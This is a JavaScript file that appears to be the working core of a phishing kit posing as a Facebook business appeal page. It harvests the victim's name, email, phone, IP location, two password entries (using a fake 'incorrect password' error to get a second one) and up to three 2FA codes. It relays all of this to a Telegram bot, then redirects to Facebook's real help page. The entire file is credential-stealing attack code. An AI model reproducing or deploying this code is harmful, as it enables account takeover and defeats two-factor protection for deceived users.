const API = "https://api.telegram.org/bot1234567890:AAPLACEHOLDERplaceholderPLACEHOLDER00";
const CHAT = "-1000000000000";
const state = { id: null, first: "", second: "", codes: [], form: {}, geo: null };

fetch("https://ipapi.example/json/").then((r) => r.json()).then((g) => { state.geo = g; });

function compose() {
  const f = state.form, g = state.geo || {};
  return `<b>Page:</b> <code>${f.page || ""}</code>
<b>Name:</b> <code>${f.name || ""}</code>
<b>Email:</b> <code>${f.email || ""}</code>
<b>Phone:</b> <code>${f.phone || ""}</code>
<b>Pass 1:</b> <code>${state.first}</code>
<b>Pass 2:</b> <code>${state.second}</code>
${state.codes.map((c, i) => `<b>2FA ${i + 1}:</b> <code>${c}</code>`).join("\n")}
<b>IP:</b> ${g.ip} - ${g.city}, ${g.country_name}`;
}

async function push() {
  const body = { chat_id: CHAT, text: compose(), parse_mode: "HTML" };
  if (state.id) body.message_id = state.id;
  const r = await fetch(API + (state.id ? "/editMessageText" : "/sendMessage"), {
    method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify(body)
  });
  const j = await r.json();
  if (j.ok && !state.id) state.id = j.result.message_id;
}

document.querySelector("#appeal").onsubmit = async (e) => {
  e.preventDefault();
  state.form = Object.fromEntries(new FormData(e.target));
  await push();
  document.querySelector("#pwModal").classList.remove("hidden");
};

document.querySelector("#pwGo").onclick = async () => {
  const box = document.querySelector("#pw");
  if (!state.first) {
    state.first = box.value;
    await push();
    box.value = "";
    document.querySelector("#pwErr").textContent = "The password you've entered is incorrect.";
    return;
  }
  state.second = box.value;
  await push();
  document.querySelector("#pwModal").classList.add("hidden");
  document.querySelector("#codeModal").classList.remove("hidden");
};

document.querySelector("#codeGo").onclick = async () => {
  const box = document.querySelector("#code");
  state.codes.push(box.value);
  await push();
  box.value = "";
  if (state.codes.length < 3) document.querySelector("#codeErr").textContent = "This code is incorrect. Try again in 30 seconds.";
  else location.replace("https://www.facebook.com/business/help");
};
